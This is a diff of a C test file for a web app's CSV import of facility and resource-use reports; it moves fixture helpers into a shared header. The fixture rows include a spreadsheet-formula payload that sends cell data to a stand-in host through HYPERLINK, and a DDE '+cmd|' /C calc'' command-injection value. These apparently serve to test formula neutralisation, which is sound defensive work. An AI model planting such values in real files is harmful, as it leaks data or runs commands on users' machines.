@@ -23,6 +23,7 @@
 #include <jansson.h>
 
 #include "db/db.h"
+#include "fixture.h"
 #include "http_session.h"
 #include "model/apitoken.h"
 #include "model/csvio.h"
@@ -34,33 +35,10 @@
 
 #define DBNAME "web_limits.db"
 
-#define FH                                                                                         \
-	"code,tax_code,name,sector,admin_unit,address,lat,lon,ownership,size,employees,"           \
-	"opened_year,closed_year,status\n"
-#define RH                                                                                         \
-	"facility_code,year,status,cp_aware,cp_staff,cp_unit,cp_applied,line,item,product,month,"  \
-	"quantity,unit,cost_vnd\n"
-
 static struct hc_server server;
 static struct hs_session ent1, province;
 static char token[APITOKEN_LEN + 1]; /* ent1@test's */
 static char *t1000, *t1001;	     /* texts of 1,000 and 1,001 bytes */
-
-/* n bytes (n >= 1) of "ạ" (e1 ba a1) then 'a's; malloc'd. */
-static char *
-text_of(size_t n)
-{
-	char *s = xmalloc(n + 1);
-	size_t o = 0;
-	while (o + 3 <= n - 1) {
-		memcpy(s + o, "\xe1\xba\xa1", 3);
-		o += 3;
-	}
-	while (o < n)
-		s[o++] = 'a';
-	s[n] = '\0';
-	return s;
-}
 
 static void
 import(struct db *db, enum csvio_kind kind, const char *text, const struct csvio_opts *o)
@@ -87,24 +65,25 @@ static int
 setup(void **state)
 {
 	(void)state;
-	t1000 = text_of(1000);
-	t1001 = text_of(1001);
+	t1000 = fx_text_of(1000);
+	t1001 = fx_text_of(1001);
 	struct db *db = wfx_new(DBNAME);
 	char *text = xasprintf(
-	    FH "F1,0100109106,%s,10,t-a1,%s,,,private,small,10000000,,,active\n"
-	       "F2,,\"=HYPERLINK(\"\"http://x/?\"\"&A1,\"\"click\"\")\",10,t-b,,,,private,small,,,,"
-	       "active\n"
-	       "F3,,+cmd|' /C calc'!A0,10,t-a,,,,private,medium,,,,active\n",
+	    FX_FH
+	    "F1,0100109106,%s,10,t-a1,%s,,,private,small,10000000,,,active\n"
+	    "F2,,\"=HYPERLINK(\"\"http://x/?\"\"&A1,\"\"click\"\")\",10,t-b,,,,private,small,,,,"
+	    "active\n"
+	    "F3,,+cmd|' /C calc'!A0,10,t-a,,,,private,medium,,,,active\n",
 	    t1000, t1000);
 	import(db, CSVIO_FACILITIES, text, &(struct csvio_opts){.update = 1});
 	free(text);
-	text = xasprintf(RH "F1,2024,draft,,,,,output,,frozen_catfish,,1e15,t,\n"
-			    "F1,2024,draft,,,,,energy,electricity,,,1e15,kWh,1e15\n"
-			    "F1,2024,draft,,,,,water,tap,,,1e15,m3,1e15\n"
-			    "F1,2024,draft,,,,,material,%s,,,1e15,t,1e15\n"
-			    "F1,2024,draft,,,,,material,vôi,,,0.30000000000000004,kg,\n"
-			    "F2,2023,accepted,,,,,energy,electricity,,,10000000,kWh,\n"
-			    "F3,2023,accepted,,,,,energy,electricity,,,7000000,kWh,\n",
+	text = xasprintf(FX_RH "F1,2024,draft,,,,,output,,frozen_catfish,,1e15,t,\n"
+			       "F1,2024,draft,,,,,energy,electricity,,,1e15,kWh,1e15\n"
+			       "F1,2024,draft,,,,,water,tap,,,1e15,m3,1e15\n"
+			       "F1,2024,draft,,,,,material,%s,,,1e15,t,1e15\n"
+			       "F1,2024,draft,,,,,material,vôi,,,0.30000000000000004,kg,\n"
+			       "F2,2023,accepted,,,,,energy,electricity,,,10000000,kWh,\n"
+			       "F3,2023,accepted,,,,,energy,electricity,,,7000000,kWh,\n",
 			 t1000);
 	import(db, CSVIO_REPORTS, text, NULL);
 	free(text);
